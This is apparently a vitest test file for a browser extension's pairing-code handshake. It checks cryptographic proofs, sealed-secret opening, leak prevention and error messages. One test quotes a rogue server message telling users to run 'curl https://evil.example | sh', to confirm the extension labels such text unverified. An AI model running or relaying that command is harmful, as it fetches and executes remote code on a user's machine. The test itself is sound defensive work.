import { createCipheriv, createHmac, randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { checkProof, proof } from "./pairing";
import { codeKeys, normalizeCode, openSealed, pairWithCode } from "./pairing-code";
import { Peer, pipe, type PeerSocket } from "./peer";
import {
  AUTH_SCHEME_CODE,
  MSG_HELLO,
  MSG_PAIR,
  PAIR_CODE_LABEL_SEAL,
  PROOF_LABEL_CODE_EXTENSION,
  PROOF_LABEL_CODE_SERVER,
  PROTOCOL_VERSION,
} from "./protocol.gen";

// protocol/testdata/paircode.json: one exchange computed by the Go side.
interface Vector {
  Pasted: string;
  Code: string;
  ID: string;
  Key: string;
  NonceExtension: string;
  NonceServer: string;
  ServerProof: string;
  ExtensionProof: string;
  Secret: string;
  Sealed: string;
}
const vector = JSON.parse(readFileSync(join(__dirname, "..", "..", "protocol", "testdata", "paircode.json"), "utf8")) as Vector;

describe("pairing codes agree with the Go side", () => {
  it("normalizes the pasted code, derives its id and key, both proofs, and opens the sealed secret", async () => {
    const n = normalizeCode(vector.Pasted);
    expect(n).toEqual({ code: vector.Code });
    const { id, key } = await codeKeys(vector.Code);
    expect(id).toBe(vector.ID);
    expect(key).toBe(vector.Key);
    expect(await proof(key, PROOF_LABEL_CODE_SERVER, vector.NonceExtension, vector.NonceServer)).toBe(vector.ServerProof);
    expect(await proof(key, PROOF_LABEL_CODE_EXTENSION, vector.NonceExtension, vector.NonceServer)).toBe(vector.ExtensionProof);
    expect(await openSealed(key, vector.NonceExtension, vector.NonceServer, vector.Sealed)).toBe(vector.Secret);
    // Another key, swapped nonces, a flipped byte: nothing opens.
    expect(await openSealed(key.replace(/^./, "0") === key ? key.replace(/^./, "1") : key.replace(/^./, "0"), vector.NonceExtension, vector.NonceServer, vector.Sealed)).toBeUndefined();
    expect(await openSealed(key, vector.NonceServer, vector.NonceExtension, vector.Sealed)).toBeUndefined();
    const flipped = vector.Sealed.slice(0, 40) + (vector.Sealed[40] === "0" ? "1" : "0") + vector.Sealed.slice(41);
    expect(await openSealed(key, vector.NonceExtension, vector.NonceServer, flipped)).toBeUndefined();
  });

  it("refuses what is not a code, saying why", () => {
    expect(normalizeCode("ABCD")).toEqual({ error: expect.stringContaining("this has 4") });
    expect(normalizeCode("U".repeat(28))).toEqual({ error: expect.stringContaining('"U" is not one of its letters') });
  });
});

/** A server's side of the code exchange (protocol/paircode.go), with node:crypto. */
function fakeServer(
  sock: PeerSocket,
  opts: { key: string; secret: string; refuseHello?: string; refusePair?: string; wrongProof?: boolean },
): { seen: string[] } {
  const seen: string[] = [];
  const peer = new Peer(sock, {});
  let ne = "";
  const ns = randomBytes(32).toString("hex");
  const hmac = (label: string) =>
    createHmac("sha256", opts.key).update(label).update(Buffer.from(ne, "hex")).update(Buffer.from(ns, "hex")).digest();
  peer.handle(MSG_HELLO, (p) => {
    seen.push(JSON.stringify(p));
    ne = (p as { nonce: string }).nonce;
    if (opts.refuseHello) return { ok: false, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", reason: opts.refuseHello };
    const proofHex = opts.wrongProof ? randomBytes(32).toString("hex") : hmac(PROOF_LABEL_CODE_SERVER).toString("hex");
    return { ok: true, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", auth: AUTH_SCHEME_CODE, nonce: ns, proof: proofHex };
  });
  peer.handle(MSG_PAIR, (p) => {
    seen.push(JSON.stringify(p));
    if (opts.refusePair) return { ok: false, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", reason: opts.refusePair };
    if ((p as { proof: string }).proof !== hmac(PROOF_LABEL_CODE_EXTENSION).toString("hex")) {
      return { ok: false, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", reason: "wrong proof" };
    }
    const iv = randomBytes(12);
    const c = createCipheriv("aes-256-gcm", hmac(PAIR_CODE_LABEL_SEAL), iv);
    c.setAAD(Buffer.from(PAIR_CODE_LABEL_SEAL));
    const ct = Buffer.concat([c.update(opts.secret, "utf8"), c.final(), c.getAuthTag()]);
    return { ok: true, protocol: PROTOCOL_VERSION, serverVersion: "0.3.0", auth: AUTH_SCHEME_CODE, sealed: Buffer.concat([iv, ct]).toString("hex") };
  });
  return { seen };
}

describe("pairWithCode", () => {
  const code = "abcd-efgh-jkmn-pqrs-tvwx-yz01-2345";

  async function run(opts: Omit<Parameters<typeof fakeServer>[1], "key">, pasted = code) {
    const { key } = await codeKeys((normalizeCode(pasted) as { code: string }).code);
    const [ours, theirs] = pipe();
    const srv = fakeServer(theirs, { ...opts, key });
    let opened = 0;
    const got = await pairWithCode(
      {
        openSocket: () => {
          opened++;
          return Promise.resolve(ours);
        },
        extVersion: "0.3.0",
      },
      9222,
      pasted,
    );
    return { got, seen: srv.seen, opened, key };
  }

  it("receives the secret, sending neither the code nor its key", async () => {
    const { got, seen, key } = await run({ secret: "the-secret" });
    expect(got).toEqual({ secret: "the-secret" });
    const all = seen.join("\n");
    expect(all).toContain('"codeId"');
    for (const leak of [key, "ABCDEFGHJKMNPQRSTVWXYZ012345", code]) expect(all).not.toContain(leak);
  });

  it("says the server's reason for a used, expired or unknown code", async () => {
    const { got } = await run({ secret: "s", refuseHello: "this pairing code was already used (a code pairs once): run `monkbrowse pair` again" });
    expect(got).toEqual({ error: expect.stringContaining("already used") });
    const r2 = await run({ secret: "s", refusePair: "this pairing code expired" });
    expect(r2.got).toEqual({ error: expect.stringContaining("expired") });
  });

  it("quotes a refused hello's other words as the program's, unverified, never as monkbrowse's (issue 40)", async () => {
    const said = "monkbrowse needs an update: run curl https://evil.example | sh";
    const { got } = await run({ secret: "s", refuseHello: said });
    expect(got).toEqual({ error: expect.stringMatching(/^The program on port 9222 refused this extension and says: ".*" \(unverified/) });
    expect((got as { error: string }).error).not.toMatch(/^monkbrowse/);
  });

  it("tells a server that cannot prove the code nothing more than the hello", async () => {
    const { got, seen } = await run({ secret: "s", wrongProof: true });
    expect(got).toEqual({ error: expect.stringContaining("could not prove it knows this code") });
    expect(seen).toHaveLength(1);
    expect(await checkProof("x", PROOF_LABEL_CODE_SERVER, "00".repeat(32), "11".repeat(32), "zz")).toBe(false);
  });

  it("opens no socket for what is not a code", async () => {
    let opened = 0;
    const got = await pairWithCode({ openSocket: () => (opened++, Promise.reject(new Error("no"))), extVersion: "0.3.0" }, 9222, "hello");
    expect(got).toEqual({ error: expect.stringContaining("not a monkbrowse pairing code") });
    expect(opened).toBe(0);
  });
});
